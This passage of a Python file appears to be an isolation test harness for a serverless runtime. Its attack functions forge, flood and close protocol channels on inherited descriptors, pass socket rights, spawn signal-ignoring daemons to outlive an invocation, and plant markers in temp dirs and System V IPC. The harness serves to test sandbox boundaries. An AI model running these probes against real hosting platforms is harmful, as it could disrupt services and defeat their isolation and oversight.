    for _ in range(event.get("mb", 100) * 16):
        os.write(1, block)
        os.write(2, block)
    return []


# -- channels

def own_descriptors():
    return sorted(int(n) for n in os.listdir("/proc/self/fd"))


def frame(kind, payload):
    return struct.pack("<IBBH", len(payload), kind, 0, 0) + payload


@attack
def forge_frames(event):
    """On everything that is open: READY, answers, errors, init errors, garbage."""
    for descriptor in own_descriptors():
        if descriptor in (0, 1, 2):
            continue
        for data in (frame(16, b""), frame(19, b'"forged"'), frame(20, b'{"errorMessage":"forged","errorType":"F","requestId":"x","stackTrace":[]}'),
                     frame(17, b"{}"), frame(18, b"x" * 1000), frame(19, b'"again"')):
            try:
                os.set_blocking(descriptor, False)
                os.write(descriptor, data)
                note("wrote to", descriptor)
            except OSError as fault:
                note(descriptor, fault.strerror)
    return []


@attack
def flood_channels(event):
    import random
    dice = random.Random(event.get("seed", 1))
    for descriptor in own_descriptors():
        if descriptor in (0, 1, 2):
            continue
        written = 0
        try:
            os.set_blocking(descriptor, False)
            for _ in range(2000):
                written += os.write(descriptor, dice.randbytes(8192) if event.get("random", True) else frame(18, b"y" * 8184))
        except OSError as fault:
            note(descriptor, written, fault.strerror)
    return []


@attack
def huge_frame(event):
    for descriptor in own_descriptors():
        if descriptor not in (0, 1, 2):
            try:
                os.write(descriptor, struct.pack("<IBBH", 0xFFFFFFFF, 19, 0, 0))
                os.write(descriptor, b"z" * 65536)
            except OSError as fault:
                note(descriptor, fault.strerror)
    return []


@attack
def send_descriptors(event):
    """Rights over every socket: whoever takes them holds our files open."""
    for descriptor in own_descriptors():
        try:
            s = socket.socket(fileno=os.dup(descriptor))
        except OSError:
            continue
        try:
            s.setblocking(False)
            for _ in range(300):
                read, write = os.pipe()
                socket.send_fds(s, [b"d"], [read, write])
                os.close(read)
                os.close(write)
        except OSError as fault:
            note(descriptor, fault.strerror)
        s.close()
    return []


@attack
def close_channels(event):
    for descriptor in own_descriptors():
        if descriptor not in (0, 1, 2):
            try:
                os.close(descriptor)
            except OSError:
                pass
    return []


@attack
def steal_control(event):
    """What commands the template or its init must not be open in a copy, and must not obey one that is."""
    gained = []
    if event["template"]:
        return []
    for descriptor in own_descriptors():
        try:
            target = os.readlink("/proc/self/fd/%d" % descriptor)
        except OSError:
            continue
        note(descriptor, target)
        if target.startswith("socket:"):
            s = socket.socket(fileno=os.dup(descriptor))
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_TYPE) == socket.SOCK_SEQPACKET:
                gained.append("a control socket at %d" % descriptor)
            s.close()
    return gained


# -- time

@attack
def outlive(event):
    """A daemon by double fork, one by setsid, one that ignores every signal, one by exec."""
    marker = event["marker"]

    def stay(kind):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for number in range(1, 65):
                    try:
                        signal.signal(number, signal.SIG_IGN)
                    except (OSError, ValueError):
                        pass
                if kind == "exec":
                    os.execv("/bin/sh", ["sh", "-c", "while :; do sleep 1; done", marker])
                while True:
                    try:
                        time.sleep(1)
                    except BaseException:
                        pass
            os._exit(0)
    for kind in ("daemon", "exec"):
        stay(kind)
    import threading
    threading.Thread(target=time.sleep, args=(3600,), daemon=False).start()
    time.sleep(0.1)
    return []


@attack
def leave_marks(event):
    for path in ("/tmp/mark", "/dev/shm/mark", "/var/tmp/mark", "/run/mark", "/dev/mqueue/mark"):
        try:
            with open(path, "w") as file:
                file.write(event["marker"])
        except OSError as fault:
            note(path, fault.strerror)
    system_call(29, 0x4D41, 4096, 0o1666)
    system_call(68, 0x4D41, 0o1666)
    system_call(64, 0x4D41, 1, 0o1666)
    return []


@attack
def find_marks(event):
    gained = []
    for path in ("/tmp/mark", "/dev/shm/mark", "/var/tmp/mark", "/run/mark", "/dev/mqueue/mark"):
        if os.path.exists(path):
            gained.append(path)
    for name, number, arguments in (("shm", 29, (0x4D41, 0, 0)), ("msg", 68, (0x4D41, 0)), ("sem", 64, (0x4D41, 0, 0))):
        if system_call(number, *arguments)[0] >= 0:
            gained.append("System V " + name)
    for folder in ("/tmp", "/dev/shm"):
        # .shm is the empty folder that /dev/shm is made of.
        gained += [folder + "/" + name for name in os.listdir(folder) if name != ".shm"]
    return gained


def carry_out(event):
    del notes[:]
    event.setdefault("template", False)
    function = ATTACKS[event["attack"]]
    place = event["place"]
    if place == "grandchild":
        outcome = in_child(lambda: function(event), event.get("limit", 40))
        return {"gained": outcome if isinstance(outcome, list) else [], "outcome": outcome if isinstance(outcome, dict) else None, "notes": notes}
    return {"gained": function(event), "notes": list(notes)}


START = time.monotonic()
AT_IMPORT = None
if os.environ.get("ATTACK"):
    wanted = json.loads(os.environ["ATTACK"])
    try:
        AT_IMPORT = carry_out({**wanted, "place": "import", "template": True})
    except Exception as fault:
        AT_IMPORT = {"gained": [], "notes": ["fault %r" % fault]}


def handler(event, context):
    global START
    START = time.monotonic()
    if event.get("attack"):
        return carry_out(event)
    return AT_IMPORT
